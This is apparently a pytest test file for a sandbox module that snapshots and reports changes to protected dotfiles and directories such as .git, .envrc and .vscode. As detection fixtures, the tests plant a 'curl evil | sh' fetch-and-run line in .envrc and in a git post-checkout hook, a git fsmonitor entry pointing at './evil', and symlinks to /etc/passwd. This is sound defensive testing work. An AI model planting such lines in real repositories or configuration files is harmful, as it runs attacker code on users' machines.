"""Protected entries (confine/protected.py) against real directories: what is
carved out, what a snapshot records without following or blocking, what
changes() reports, and which committed paths are refused at import."""

from __future__ import annotations

import hashlib
import os
import subprocess
import threading
from pathlib import Path

import pytest

from saphan.confine import protected
from saphan.confine.protected import NAMES, carve_outs, changes, snapshot, touched_in_tree


def _wd(tmp_path: Path) -> Path:
    wd = tmp_path / "wd"
    wd.mkdir()
    return wd


def _whats(found: list[dict[str, object]]) -> list[tuple[object, object]]:
    return [(c["name"], c["what"]) for c in found]


def test_names_are_single_top_level_components() -> None:
    assert len(set(NAMES)) == len(NAMES)
    for name in NAMES:
        assert name.startswith(".") and "/" not in name and name not in (".", "..")
    # sandbox-runtime's mandatory-deny list, as far as it is loaded from a tree's root
    for anchor in (".gitconfig", ".gitmodules", ".bashrc", ".bash_profile", ".zshrc",
                   ".zprofile", ".profile", ".ripgreprc", ".mcp.json", ".git", ".vscode",
                   ".idea", ".claude"):
        assert anchor in NAMES


# -- carve_outs -----------------------------------------------------------------

def test_carve_outs_are_the_real_files_and_dirs_not_allowed(tmp_path: Path) -> None:
    wd = _wd(tmp_path)
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    (wd / ".git").mkdir()
    (wd / ".envrc").write_text("export A=1\n")
    (wd / ".gitmodules").write_text("")
    (wd / ".claude").mkdir()  # allowed below
    (wd / ".vscode").symlink_to(elsewhere)  # a link: never carved (a bind would follow it)
    (wd / ".idea").symlink_to(tmp_path / "missing")  # dangling
    (wd / ".npmrc").symlink_to("/etc/passwd")
    os.mkfifo(wd / ".mcp.json")  # neither a file nor a directory
    (wd / "src").mkdir()  # not protected
    got = carve_outs(str(wd), allowed=[".claude"])
    assert got == (str(wd / ".git"), str(wd / ".gitmodules"), str(wd / ".envrc"))
    assert str(wd / ".claude") in carve_outs(str(wd), allowed=())
    assert carve_outs(str(tmp_path / "empty-missing"), allowed=()) == ()


def test_carve_outs_refuse_unknown_allowed_names_and_relative_dirs(tmp_path: Path) -> None:
    with pytest.raises(ValueError, match="not protected names"):
        carve_outs(str(tmp_path), allowed=["src"])
    with pytest.raises(ValueError, match="absolute"):
        carve_outs("relative/wd", allowed=())


# -- snapshot: never follows, never blocks ----------------------------------------

def _snapshot_within(wd: Path, seconds: float = 10) -> protected.Snapshot:
    """The snapshot, taken on a thread: a test fails rather than hangs if it blocks."""
    box: list[protected.Snapshot] = []
    t = threading.Thread(target=lambda: box.append(snapshot(str(wd))), daemon=True)
    t.start()
    t.join(seconds)
    assert box, f"snapshot({wd}) did not return within {seconds} s (blocked?)"
    return box[0]


def test_snapshot_never_follows_a_link(tmp_path: Path) -> None:
    wd = _wd(tmp_path)
    outside_fifo = tmp_path / "outside-fifo"
    os.mkfifo(outside_fifo)
    (wd / ".envrc").symlink_to("/etc/passwd")
    (wd / ".npmrc").symlink_to(outside_fifo)  # following it would block on open
    (wd / ".vscode").symlink_to("/etc")  # following it would walk /etc
    snap = _snapshot_within(wd)
    envrc = snap.entries[".envrc"]
    assert envrc.kind == "symlink" and envrc.target == "/etc/passwd" and envrc.sha256 is None
    assert snap.entries[".npmrc"].target == str(outside_fifo)
    assert snap.entries[".vscode"].kind == "symlink"
    assert not any(p.startswith(".vscode/") for p in snap.entries)
    assert set(snap.entries) == {".envrc", ".npmrc", ".vscode"}


def test_snapshot_never_blocks_on_a_fifo(tmp_path: Path) -> None:
    wd = _wd(tmp_path)
    os.mkfifo(wd / ".envrc")
    (wd / ".vscode").mkdir()
    os.mkfifo(wd / ".vscode" / "settings.json")
    snap = _snapshot_within(wd)
    assert snap.entries[".envrc"].kind == "fifo"
    assert snap.entries[".vscode/settings.json"].kind == "fifo"
    assert snap.entries[".envrc"].sha256 is None


def test_a_fifo_swapped_in_after_the_lstat_is_opened_without_blocking(tmp_path: Path) -> None:
    """The race the O_NONBLOCK + fstat guards: lstat saw a regular file, then
    the name became a FIFO. The entry is the FIFO, described, never read."""
    wd = _wd(tmp_path)
    regular = tmp_path / "regular"
    regular.write_text("x")
    os.mkfifo(wd / ".envrc")
    fd = os.open(wd, os.O_RDONLY | os.O_DIRECTORY)
    try:
        box: list[protected.Entry] = []
        t = threading.Thread(target=lambda: box.append(protected._entry(
            fd, ".envrc", os.stat(regular), protected._Budget())), daemon=True)
        t.start()
        t.join(10)
        assert box and box[0].kind == "fifo" and box[0].sha256 is None
    finally:
        os.close(fd)


def test_regular_files_are_hashed_and_large_ones_compared_by_inode_times(
    tmp_path: Path,
) -> None:
    wd = _wd(tmp_path)
    (wd / ".envrc").write_text("export A=1\n")
    big = wd / ".npmrc"
    big.write_bytes(b"a" * (protected.MAX_FILE_BYTES + 10))
    snap = snapshot(str(wd))
    assert snap.entries[".envrc"].sha256 == hashlib.sha256(b"export A=1\n").hexdigest()
    assert snap.entries[".npmrc"].sha256 is None and "larger than" in str(
        snap.entries[".npmrc"].note)
    # Same size, mtime put back: the change time still tells.
    st = big.stat()
    with open(big, "r+b") as f:
        f.write(b"b")
    os.utime(big, ns=(st.st_atime_ns, st.st_mtime_ns))
    assert _whats(changes(snap, snapshot(str(wd)))) == [(".npmrc", "changed")]


# -- changes ----------------------------------------------------------------------

def test_changes_reports_created_changed_removed_and_type_changed(tmp_path: Path) -> None:
    wd = _wd(tmp_path)
    (wd / ".envrc").write_text("export A=1\n")
    (wd / ".gitmodules").write_text('[submodule "x"]\n')
    (wd / ".npmrc").write_text("registry=https://registry.npmjs.org/\n")
    (wd / ".claude").mkdir()
    (wd / ".claude" / "settings.json").write_text("{}\n")
    (wd / ".bashrc").write_text("alias ll='ls -l'\n")
    (wd / "src.py").write_text("print(1)\n")
    before = snapshot(str(wd))

    (wd / ".vscode").mkdir()
    (wd / ".vscode" / "settings.json").write_text('{"python.defaultInterpreterPath": "x"}')
    (wd / ".envrc").write_text("curl evil | sh\n")
    (wd / ".gitmodules").unlink()
    (wd / ".npmrc").unlink()
    (wd / ".npmrc").symlink_to("/etc/passwd")
    (wd / ".claude" / "settings.json").write_text("{}\n")  # rewritten, same bytes
    (wd / "src.py").write_text("print(2)\n")  # not protected
    (wd / ".bashrc").chmod(0o755)  # a mode change is a change
    found = changes(before, snapshot(str(wd)))

    assert _whats(found) == [
        (".bashrc", "changed"), (".envrc", "changed"), (".gitmodules", "removed"),
        (".npmrc", "type-changed"), (".vscode", "created"),
        (".vscode/settings.json", "created"),
    ]
    kinds = {c["name"]: c for c in found}
    assert kinds[".npmrc"]["before"] == "file" and kinds[".npmrc"]["after"] == "symlink"
    assert kinds[".bashrc"]["how"] == ["mode"] and kinds[".envrc"]["how"] == ["content"]
    assert kinds[".vscode/settings.json"]["kind"] == "file"
    assert changes(before, before) == []


def test_a_directory_replaced_by_a_link_reports_its_children_removed(tmp_path: Path) -> None:
    wd = _wd(tmp_path)
    (wd / ".claude").mkdir()
    (wd / ".claude" / "settings.json").write_text("{}")
    before = snapshot(str(wd))
    (wd / ".claude" / "settings.json").unlink()
    (wd / ".claude").rmdir()
    (wd / ".claude").symlink_to(tmp_path)
    assert _whats(changes(before, snapshot(str(wd)))) == [
        (".claude", "type-changed"), (".claude/settings.json", "removed")]


def test_git_hooks_are_compared_and_object_files_are_not_walked(tmp_path: Path) -> None:
    wd = _wd(tmp_path)
    subprocess.run(["git", "init", "-q", str(wd)], check=True)
    (wd / ".git" / "objects" / "ab").mkdir()
    (wd / ".git" / "objects" / "ab" / "cdef").write_bytes(b"x")
    before = snapshot(str(wd))
    assert ".git/config" in before.entries and ".git/objects/ab" in before.entries
    assert ".git/objects/ab/cdef" not in before.entries
    (wd / ".git" / "hooks" / "post-checkout").write_text("#!/bin/sh\ncurl evil | sh\n")
    (wd / ".git" / "objects" / "ab" / "0123").write_bytes(b"y")
    with open(wd / ".git" / "config", "a") as f:
        f.write("[core]\n\tfsmonitor = ./evil\n")
    assert _whats(changes(before, snapshot(str(wd)))) == [
        (".git/config", "changed"), (".git/hooks/post-checkout", "created")]


def test_a_walk_past_its_bound_claims_nothing_beyond_it(tmp_path: Path,
                                                        monkeypatch: pytest.MonkeyPatch) -> None:
    """Breadth first: `.idea`, its two subdirectories and `a`'s files fit in
    the bound; `b`'s twenty do not. What was listed is compared; past the
    cut-off nothing is claimed, and the name is reported unverified."""
    monkeypatch.setattr(protected, "MAX_ENTRIES", 8)
    wd = _wd(tmp_path)
    for sub, n in (("a", 2), ("b", 20)):
        (wd / ".idea" / sub).mkdir(parents=True)
        for i in range(n):
            (wd / ".idea" / sub / f"f{i}.xml").write_text(str(i))
    (wd / ".envrc").write_text("a")
    before = snapshot(str(wd))
    assert ".idea" in before.incomplete and ".envrc" not in before.incomplete
    assert {".idea", ".idea/a"} <= before.listed and ".idea/b" not in before.listed
    (wd / ".idea" / "a" / "f0.xml").unlink()  # inside the listed part: reported
    (wd / ".idea" / "a" / "f1.xml").write_text("changed")
    (wd / ".idea" / "b" / "f3.xml").unlink()  # past the cut-off: not claimed
    (wd / ".idea" / "b" / "new.xml").write_text("n")
    (wd / ".envrc").write_text("b")
    found = changes(before, snapshot(str(wd)))
    assert _whats(found) == [
        (".envrc", "changed"), (".idea/a/f0.xml", "removed"), (".idea/a/f1.xml", "changed"),
        (".idea", "unverified")]
    assert "more than 8 entries" in found[-1]["detail"]


def test_summarize_keeps_the_terminal_line_short() -> None:
    found = [{"name": f".idea/f{i}", "what": "created"} for i in range(30)]
    line = protected.summarize(found, limit=3)
    assert line == (".idea/f0 (created), .idea/f1 (created), .idea/f2 (created) "
                    "and 27 more (see the record)")
    assert protected.summarize(found[:1]) == ".idea/f0 (created)"


# -- touched_in_tree --------------------------------------------------------------

def test_touched_in_tree_flags_protected_first_components() -> None:
    paths = [".vscode/settings.json", "src/a.py", ".envrc", ".gitmodules", "docs/.envrc",
             ".VSCode/tasks.json", ".envrc", ".git\u200c/hooks/x", ".npmrc.", ".claude",
             ".vscodex/a", "envrc"]
    assert touched_in_tree(paths, allowed=[".envrc"]) == [
        ".vscode/settings.json", ".gitmodules", ".VSCode/tasks.json", ".git\u200c/hooks/x",
        ".npmrc.", ".claude"]
    assert touched_in_tree(paths, allowed=[".vscode", ".envrc"])[0] == ".gitmodules"
    with pytest.raises(ValueError):
        touched_in_tree(paths, allowed=["src"])


def test_touched_in_tree_flags_gitattributes_at_any_depth() -> None:
    """git reads every directory's .gitattributes: a nested one routes its
    directory's files to the operator's drivers as the top one does."""
    paths = ["src/.gitattributes", "a/b/c/.GitAttributes.", "docs/gitattributes",
             "x/.gitattributes.d/y", "src/.vscode/settings.json", "src/a.py"]
    assert touched_in_tree(paths, allowed=()) == ["src/.gitattributes",
                                                  "a/b/c/.GitAttributes."]
    # the class that names .gitattributes allows it at every depth
    assert touched_in_tree(paths, allowed=[".gitattributes"]) == []


def test_touched_in_tree_on_a_real_commit(tmp_path: Path) -> None:
    repo = tmp_path / "repo"
    repo.mkdir()

    def git(*args: str) -> str:
        return subprocess.run(["git", "-c", "user.email=t@e", "-c", "user.name=t", *args],
                              cwd=repo, check=True, capture_output=True, text=True).stdout

    git("init", "-q", "-b", "main")
    (repo / "README").write_text("base\n")
    git("add", "README")
    git("commit", "-q", "-m", "base")
    base = git("rev-parse", "HEAD").strip()
    (repo / ".vscode").mkdir()
    (repo / ".vscode" / "tasks.json").write_text('{"runOn": "folderOpen"}')
    (repo / ".envrc").write_text("use nix\n")
    (repo / "src").mkdir()
    (repo / "src" / "a b.py").write_text("x")
    git("add", "-A")
    git("commit", "-q", "-m", "run")
    names = git("diff", "--name-only", "-z", base, "HEAD").split("\0")
    assert touched_in_tree([n for n in names if n], allowed=()) == [
        ".envrc", ".vscode/tasks.json"]
    assert touched_in_tree([n for n in names if n], allowed=[".envrc", ".vscode"]) == []
